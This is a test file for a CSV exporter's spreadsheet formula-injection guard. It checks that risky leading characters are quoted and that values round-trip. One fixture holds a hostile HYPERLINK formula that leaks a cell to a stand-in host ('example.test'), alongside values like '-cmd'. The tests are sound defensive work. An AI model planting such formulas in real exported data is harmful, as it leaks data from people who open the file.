import fc from 'fast-check';
import { parseCsvFiles, writeCsvFiles } from '../../../src/formats/csv';
import { neutraliseCell, restoreCell } from '../../../src/formats/spreadsheet-safety';
import { validateDocument } from '../../../src/network-document/validation';
import { HOSTILE_NAMES, hostileDocument } from '../../support/hostile-names';

describe('spreadsheet formula neutralisation', () => {
  it('prefixes a single quote to a cell starting with =, +, -, @, tab or carriage return', () => {
    expect(['=A1', '+1', '-1', '@A1', '\tx', '\rx'].map(neutraliseCell)).toEqual([
      "'=A1",
      "'+1",
      "'-1",
      "'@A1",
      "'\tx",
      "'\rx",
    ]);
  });

  it('leaves every other cell as it is, a formula character later in the cell included', () => {
    expect(['Escola', 'a=b', '', "'t Hooft", ' =A1', '2020-01-15'].map(neutraliseCell)).toEqual([
      'Escola',
      'a=b',
      '',
      "'t Hooft",
      ' =A1',
      '2020-01-15',
    ]);
  });

  it('guards a cell that already starts with quotes before a formula character, so it reads back whole', () => {
    expect(neutraliseCell("'=x")).toBe("''=x");
    expect(restoreCell("''=x")).toBe("'=x");
    // A person typing '=x in a spreadsheet means the text =x, as the spreadsheet itself does.
    expect(restoreCell("'=x")).toBe('=x');
    expect(restoreCell("'t Hooft")).toBe("'t Hooft");
  });

  it('round-trips every string, and no written cell starts with a formula character', () => {
    const text = fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', 'a', ' ') });
    fc.assert(
      fc.property(fc.oneof(text, fc.string()), (value) => {
        const written = neutraliseCell(value);
        expect(restoreCell(written)).toBe(value);
        expect(/^[=+\-@\t\r]/.test(written)).toBe(false);
      }),
      { numRuns: 2_000 },
    );
  });

  it('writes hostile names to CSV as quoted text and reads them back unchanged', () => {
    const document = hostileDocument();
    const files = writeCsvFiles(document);
    const cellsOf = (text: string): string[] => text.split('\n').slice(1, -1);
    // Every stakeholder line's name cell (2nd) after the id: each hostile one guarded by a quote.
    expect(cellsOf(files.stakeholders)[0]).toBe(
      `s0,"'=HYPERLINK(""http://example.test/?leak=""&A1,""Click me"")",CIVIL_SOCIETY,'-cmd,,,c1`,
    );
    expect(cellsOf(files.stakeholders)[1]).toBe(`s1,'+351 266 000 000,CIVIL_SOCIETY,,'=2*3,,c1`);
    expect(files.regions).toBe("id,name,country\nr1,'=1+1,PT\n");
    expect(files.partnerships).toContain(`p1,'+Partnership,PROJECT,,,'=theme;inclusion,'@mention`);

    const source = parseCsvFiles(
      Object.fromEntries(Object.entries(files).map(([table, text]) => [table, Buffer.from(text)])),
    );
    expect(source.problems).toEqual([]);
    const read = validateDocument(source.document, source.locate);
    expect(read.problems).toEqual([]);
    expect(read.document!.stakeholders.map((s) => s.name)).toEqual(HOSTILE_NAMES);
    expect(read.document).toEqual(validateDocument(document).document);
  });
});
